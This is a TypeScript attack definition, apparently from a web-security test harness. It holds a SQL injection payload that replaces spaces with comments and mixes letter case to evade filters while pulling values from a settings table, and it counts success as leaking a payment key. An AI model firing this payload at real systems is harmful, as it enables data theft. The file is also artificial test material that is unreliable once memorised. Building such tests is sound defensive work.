import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'
import { query } from '../../visitor/visitor.ts'

/** UNION with comments for spaces and mixed case. */
export const sqlUnionComments: Attack = defineAttack({
  id: 'sql-union-comments',
  class: 'sql-injection',
  title: 'UNION with comments for spaces and mixed case',
  cwe: 89,
  capec: 66,
  technique: 'T1190',
  preconditions: [],

  steps: ({ visitor }) =>
    visitor.get(
      `/search${query({ q: "zz'/**/uNiOn/**/aLl/**/sElEcT/**/0,value,key,0,''/**/fRoM/**/settings--" })}`,
    ),
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.paymentKey),
  twin: ({ visitor }) => visitor.get(`/search${query({ q: 'boots /* any colour */ size 42' })}`),
})
